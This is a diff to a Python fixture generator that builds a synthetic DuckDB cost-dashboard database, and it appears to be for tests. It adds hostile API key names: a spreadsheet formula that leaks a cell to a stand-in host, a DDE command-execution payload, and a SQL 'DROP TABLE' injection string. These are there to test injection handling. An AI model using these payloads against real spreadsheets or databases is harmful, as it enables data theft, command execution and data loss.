@@ -8,7 +8,7 @@ them (pay-as-you-go only, costs DECIMAL(38,18), counts BIGINT), ``provider_alter
 are Parquet files (one per day, or per month for monthly tables) behind views in schema ``marts``.
 
 What the data holds, for the tests: 3 accounts, 12 API keys (one key of an account with no name,
-names with CJK, quotes, commas, Markdown and HTML), 8 models (two served by two providers), both
+names with CJK, quotes, commas, Markdown, HTML and spreadsheet formulas), 8 models (two served by two providers), both
 billing modes, and no usage in the hours 02:00 and 03:00 UTC (gaps a chart must show).
 
 ``python tests/dashboard_serving.py OUT --requests N --days D`` writes one from the command line.
@@ -60,10 +60,10 @@ KEYS = (
     ("key_noname_06", "acct_beta", None),
     ("key_research_07", "acct_beta", "Research · 研究"),
     ("key_ci_08", "acct_beta", "C:\\ci\\nightly"),
-    ("key_eval_09", "acct_gamma", "eval-harness"),
-    ("key_bot_10", "acct_gamma", "support bot"),
+    ("key_eval_09", "acct_gamma", '=HYPERLINK("http://x/?leak="&A1,"Click")'),
+    ("key_bot_10", "acct_gamma", "@SUM(1+1)"),
     ("key_sql_11", "acct_gamma", "'); DROP TABLE marts.cost_cube; --"),
-    ("key_rare_12", "acct_gamma", "rarely used"),
+    ("key_rare_12", "acct_gamma", "=cmd|' /C calc'!A0"),
 )
 # (model, provider, model_type, purpose, input $/Mtok, output $/Mtok, $ per request): nano-dollars exact.
 MODELS = (
@@ -83,7 +83,8 @@ MODELS = (
 def _exact_divide(numerator: str, denominator: str) -> str:
     """numerator / denominator as DECIMAL(38,18) rounded half up (dbt_project/macros/money.sql)."""
     scale = "1000000000000000000"
-    units = f"(cast(floor({numerator}) as hugeint) * {scale} + cast(({numerator} - floor({numerator})) * {scale} as hugeint))"
+    fraction = f"cast(({numerator} - floor({numerator})) * {scale} as hugeint)"
+    units = f"(cast(floor({numerator}) as hugeint) * {scale} + {fraction})"
     rounded = f"(({units} * 2 + cast({denominator} as hugeint)) // (cast({denominator} as hugeint) * 2))"
     return (
         f"case when {denominator} <> 0 then cast(cast({rounded} // {scale} as decimal(38, 0)) "
@@ -92,9 +93,7 @@ def _exact_divide(numerator: str, denominator: str) -> str:
 
 
 def _fct_cost_sql(requests: int, start: date, days: int) -> str:
-    keys = ", ".join(
-        f"({i}, '{k}', '{a}', {'NULL' if n is None else repr_sql(n)})" for i, (k, a, n) in enumerate(KEYS)
-    )
+    keys = ", ".join(f"({i}, '{k}', '{a}', {'NULL' if n is None else repr_sql(n)})" for i, (k, a, n) in enumerate(KEYS))
     models = ", ".join(
         f"({i}, '{m}', '{p}', '{t}', '{u}', {_nanos(ip)}, {_nanos(op)}, {_nanos(rp, 1)})"
         for i, (m, p, t, u, ip, op, rp) in enumerate(MODELS)
@@ -176,15 +175,17 @@ def build_serving(
         for grain, unit in UNITS.items():
             cube = ", ".join(SHAPES["cost_cube"])
             con.execute(
-                f"create table cost_cube_{grain} as select date_trunc('{unit}', created_at)::timestamp as period_start, "
-                f"{cube}, {sums} from fct_cost where billing_mode = 'payg' group by all"
+                f"create table cost_cube_{grain} as select "
+                f"date_trunc('{unit}', created_at)::timestamp as period_start, {cube}, {sums} "
+                "from fct_cost where billing_mode = 'payg' group by all"
             )
             for table, dims in SHAPES.items():
                 averages = ""
                 if table == "cost_overview":
                     averages = (
                         f", {_exact_divide('total_cost', 'request_count')} as avg_cost_per_request, "
-                        f"{_exact_divide('total_cost * 1000', 'input_tokens + output_tokens')} as avg_cost_per_1k_tokens"
+                        f"{_exact_divide('total_cost * 1000', 'input_tokens + output_tokens')} "
+                        "as avg_cost_per_1k_tokens"
                     )
                 elif table == "provider_model_details":
                     averages = f", {_exact_divide('total_cost', 'request_count')} as avg_cost_per_request"
@@ -205,7 +206,9 @@ def build_serving(
             )
     with duckdb.connect(str(path)) as serving:
         serving.execute("create schema marts; create schema meta")
-        serving.execute("create table meta.publication as select 'synthetic' as version, now()::timestamp as published_at")
+        serving.execute(
+            "create table meta.publication as select 'synthetic' as version, now()::timestamp as published_at"
+        )
         for table in tables:
             files = sorted(str(f) for f in (parts / table).rglob("*.parquet"))
             listed = ", ".join(repr_sql(f) for f in files)
